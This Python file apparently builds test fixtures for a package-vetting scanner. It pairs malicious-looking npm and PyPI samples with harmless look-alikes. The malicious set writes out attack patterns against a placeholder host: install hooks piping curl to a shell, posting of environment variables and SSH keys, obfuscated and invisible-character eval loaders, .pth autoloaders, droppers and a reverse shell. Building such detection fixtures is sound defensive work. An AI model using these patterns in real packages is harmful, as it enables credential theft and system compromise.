"""The samples. Each is the shape of a published attack, written anew, without anything that could do harm."""

# ruff: noqa: E501 - foreign sources stay in the lines they would have

import base64
import json
import zlib

from vetting_samples.build import Sample

HOST = "collector.invalid"
INERT_CODE = "print('inert')"
PACKED = base64.b64encode(zlib.compress((INERT_CODE + "\n" + "#" + "x1y2z3" * 900).encode(), 0)).decode()


def _manifest(name: str, **more: object) -> str:
    return json.dumps({"name": name, "version": "1.0.0", "main": "index.js", **more}, indent=2)


def _npm(name: str, story: str, files: dict[str, str], **more: object) -> Sample:
    return Sample(name, "npm", {"package.json": _manifest(name, **more), **files}, story)


def _pypi(name: str, story: str, files: dict[str, str]) -> Sample:
    return Sample(name, "pypi", files, story)


_HELLO_JS = "module.exports = () => 'hello';\n"
_SETUP = "from setuptools import setup\nsetup(name='x', version='1.0', packages=['x'])\n"

MALICIOUS = (
    _npm(
        "postinstall-downloader", "a lifecycle script that downloads and runs a shell script", {"index.js": _HELLO_JS},
        scripts={"postinstall": f"curl -s http://{HOST}/i.sh | sh"},
    ),
    _npm(
        "postinstall-node-loader", "a lifecycle script whose file downloads a program and starts it",
        {
            "index.js": _HELLO_JS,
            "scripts/setup.js": f"""const https = require('https');
const fs = require('fs');
const { '{ execFileSync }' } = require('child_process');
https.get('https://{HOST}/tool', (res) => {{
  const chunks = [];
  res.on('data', (c) => chunks.push(c));
  res.on('end', () => {{
    fs.writeFileSync('/tmp/.tool', Buffer.concat(chunks));
    fs.chmodSync('/tmp/.tool', 0o755);
    execFileSync('/tmp/.tool');
  }});
}});
""",
        },
        scripts={"postinstall": "node scripts/setup.js"},
    ),
    _npm(
        "env-exfiltration", "the whole environment, encoded and posted",
        {
            "index.js": f"""const https = require('https');
const body = Buffer.from(JSON.stringify(process.env)).toString('base64');
const req = https.request({{ host: '{HOST}', method: 'POST' }}, () => {{}});
req.write(body);
req.end();
""",
        },
    ),
    _npm(
        "env-exfiltration-fetch", "the environment in the body of a fetch",
        {"index.js": f"const data = {{...process.env}};\nfetch('https://{HOST}/x', {{method: 'POST', body: JSON.stringify(data)}});\n"},
    ),
    _npm(
        "env-exfiltration-two-files", "one file collects and packs, the other sends",
        {
            "index.js": "const { pack } = require('./pack');\nconst { push } = require('./wire');\npush(pack());\n",
            "pack.js": "exports.pack = () => Buffer.from(JSON.stringify(process.env)).toString('base64');\n",
            "wire.js": f"const https = require('https');\nconst {{ pack }} = require('./pack');\nexports.push = (b) => {{ const r = https.request('https://{HOST}', {{method: 'POST'}}); r.end(b); }};\n",
        },
    ),
    _npm(
        "dependency-confusion-beacon", "tells a stranger where it was installed",
        {
            "index.js": f"""const os = require('os');
const dns = require('dns');
const https = require('https');
const data = JSON.stringify({{ h: os.hostname(), u: os.userInfo().username, d: __dirname, c: process.cwd() }});
const req = https.request({{ hostname: '{HOST}', path: '/', method: 'POST' }});
req.write(data);
req.end();
""",
        },
        scripts={"preinstall": "node index.js"},
    ),
    _npm(
        "binding-gyp-trick", "a build file without anything to build, whose command runs at installation",
        {
            "index.js": _HELLO_JS,
            "binding.gyp": '{"targets": [{"target_name": "x", "sources": ["<!(node prepare.js)"]}]}\n',
            "prepare.js": f"require('child_process').execSync('curl -s http://{HOST}/x | bash');\n",
        },
    ),
    _npm(
        "obfuscated-loader", "written as an obfuscator writes it",
        {
            "index.js": "const _0x1a2b=['log','inert'];(function(_0x2c3d,_0x4e5f){const _0x6a7b=function(_0x8c9d)"
            "{while(--_0x8c9d){_0x2c3d['push'](_0x2c3d['shift']());}};_0x6a7b(++_0x4e5f);}(_0x1a2b,0x1f4));"
            "const _0x3c4d=function(_0x5e6f,_0x7a8b){_0x5e6f=_0x5e6f-0x0;let _0x9c0d=_0x1a2b[_0x5e6f];return _0x9c0d;};"
            + "".join(f"var _0x{n:04x}f=_0x3c4d(0x{n % 2:x});" for n in range(1, 20))
            + "const cp=require('child_process');const h=require('https');h.get('https://" + HOST + "',_0xa=>eval(_0x3c4d(0x1)));\n",
        },
    ),
    _npm(
        "decoded-eval", "decodes a text and runs it",
        {"index.js": f"const p = '{base64.b64encode(INERT_CODE.encode()).decode()}';\neval(Buffer.from(p, 'base64').toString());\n"},
    ),
    _npm(
        "fetched-eval", "runs what a server answers",
        {"index.js": f"fetch('https://{HOST}/c').then((r) => r.text()).then((code) => eval(code));\n"},
    ),
    _npm(
        "hidden-unicode-loader", "a program in invisible characters",
        {
            "index.js": "const decode = (s) => [...s].map((c) => c.codePointAt(0) - 0xe0100 + 16);\nconst b = decode(`"
            + "".join(chr(0xE0100 + byte) for byte in INERT_CODE.encode())
            + "`);\neval(String.fromCharCode(...b));\n",
        },
    ),
    _npm(
        "mail-copy", "each mail goes to a stranger as well",
        {
            "index.js": """exports.sendEmail = async (client, { to, subject, text }) =>
  client.sendEmail({ From: process.env.SENDER, To: to, Bcc: 'copy@collector.invalid', Subject: subject, TextBody: text });
""",
        },
    ),
    _npm(
        "delayed-turn", "harmless until a day, then loads code",
        {
            "index.js": f"""const https = require('https');
exports.run = () => {{
  if (Date.now() > 1790000000000) {{
    https.get('https://{HOST}/late.js', (res) => {{
      let code = '';
      res.on('data', (d) => {{ code += d; }});
      res.on('end', () => new Function(code)());
    }});
  }}
}};
""",
        },
    ),
    _npm(
        "secret-thief", "reads keys and sends them",
        {
            "index.js": f"""const fs = require('fs');
const os = require('os');
const axios = require('axios');
const key = fs.readFileSync(os.homedir() + '/.ssh/id_rsa', 'utf8');
axios.post('https://{HOST}/k', {{ key }});
""",
        },
    ),
    _pypi("pth-autoload", "a .pth file that starts code with every Python", {
        "x/__init__.py": "",
        "x_init.pth": f"import base64; exec(base64.b64decode('{base64.b64encode(INERT_CODE.encode()).decode()}'))\n",
    }),
    _pypi("pth-subprocess", "a .pth file that starts another Python", {
        "x/__init__.py": "",
        "x_init.pth": "import os, subprocess, sys; subprocess.Popen([sys.executable, '-c', 'print(1)'])\n",
    }),
    _pypi("setup-downloader", "setup.py downloads and runs code", {
        "setup.py": f"import urllib.request\nexec(urllib.request.urlopen('http://{HOST}/p.py').read())\n{_SETUP}",
        "x/__init__.py": "",
    }),
    _pypi("setup-install-hook", "an install command that reports the machine", {
        "setup.py": f"""import getpass, os, socket
import requests
from setuptools import setup
from setuptools.command.install import install


class Hook(install):
    def run(self):
        install.run(self)
        data = {{"host": socket.gethostname(), "user": getpass.getuser(), "cwd": os.getcwd()}}
        requests.get("https://{HOST}", params=data)


setup(name="x", version="9.9.9", cmdclass={{"install": Hook}})
""",
    }),
    _pypi("packed-exec", "a long packed text that is run", {
        "x/__init__.py": f"import base64, zlib\nblob = '{PACKED}'\nexec(zlib.decompress(base64.b64decode(blob)))\n",
    }),
    _pypi("aliased-exec", "the same with names that hide what is called", {
        "x/__init__.py": f"import base64 as b\ndecode = b.b64decode\nrun = getattr(__import__('builtins'), 'ex' + 'ec')\n"
        f"run(decode('{base64.b64encode(INERT_CODE.encode()).decode()}'))\n",
    }),
    _pypi("spaced-exec", "code far to the right", {
        "x/__init__.py": "VERSION = '1.0'" + " " * 300 + ";__import__('builtins').exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n",
    }),
    _pypi("env-post", "the environment, posted", {
        "x/__init__.py": f"import base64, json, os, requests\ndata = base64.b64encode(json.dumps(dict(os.environ)).encode())\n"
        f"requests.post('https://{HOST}', data=data)\n",
    }),
    _pypi("dropper", "a download that is written and started", {
        "x/__init__.py": f"""import os, subprocess, tempfile
import requests

path = os.path.join(tempfile.gettempdir(), "update.bin")
with open(path, "wb") as f:
    f.write(requests.get("http://{HOST}/u").content)
subprocess.Popen([path])
""",
    }),
    _pypi("shell-dropper", "a shell command that downloads and runs", {
        "x/__init__.py": f"import os\nos.system('curl -fsSL http://{HOST}/a | bash')\n",
    }),
    _pypi("encoded-powershell", "an encoded command", {
        "x/__init__.py": "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -EncodedCommand SQBuAGUAcgB0AA==', shell=True)\n",
    }),
    _pypi("reverse-shell", "a shell for somebody else", {
        "x/__init__.py": "import os, pty, socket\ns = socket.socket()\ns.connect(('127.0.0.1', 9))\n"
        "for n in (0, 1, 2):\n    os.dup2(s.fileno(), n)\npty.spawn('/bin/sh')\n",
    }),
    _pypi("key-thief", "keys, sent over a socket", {
        "x/__init__.py": f"import os, socket\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        f"s = socket.create_connection(('{HOST}', 443))\ns.sendall(key.encode())\n",
    }),
)  # fmt: skip

BENIGN = (
    _npm("plain", "nothing", {"index.js": _HELLO_JS}),
    _npm("native-build", "an honest native module", {
        "index.js": "module.exports = require('node-gyp-build')(__dirname);\n",
        "binding.gyp": "{'targets': [{'target_name': 'x', 'sources': ['x.cc'], 'include_dirs': [\"<!(node -p \\\"require('node-addon-api').include\\\")\"]}]}\n",
        "x.cc": "int main() { return 0; }\n",
    }, scripts={"install": "node-gyp-build"}),
    _npm("api-client", "a token from the environment in a request", {
        "index.js": "const token = process.env.API_TOKEN;\nexports.get = (u) => fetch(u, { headers: { Authorization: `Bearer ${token}` } });\n",
    }),
    _npm("runner", "passes its environment on to a program", {
        "index.js": "const { spawn } = require('child_process');\nexports.run = (c) => spawn(c, { env: { ...process.env, A: '1' } });\n",
    }),
    _npm("settings", "settings from the environment, one of them an address", {
        "index.js": "const load = (env) => ({ url: env.URL });\nconst c = load(process.env);\nexports.go = () => fetch(c.url);\n",
    }),
    _pypi("template-engine", "compiles its own templates", {
        "x/__init__.py": "def render(source):\n    scope = {}\n    exec(compile(source, '<t>', 'exec'), scope)\n    return scope\n",
    }),
    _pypi("http-client", "a client with a token", {
        "x/__init__.py": "import os\nimport requests\n\n\ndef get(url):\n    return requests.get(url, headers={'Authorization': os.environ['TOKEN']})\n",
    }),
    _pypi("git-wrapper", "starts git", {
        "x/__init__.py": "import os\nimport subprocess\n\n\ndef status():\n    return subprocess.run(['git', 'status'], env=dict(os.environ), check=True)\n",
    }),
    _pypi("build-script", "a setup.py that asks a compiler", {
        "setup.py": "import subprocess\nfrom setuptools import setup\nversion = subprocess.check_output(['git', 'describe']).decode()\nsetup(name='x', version=version)\n",
    }),
)  # fmt: skip
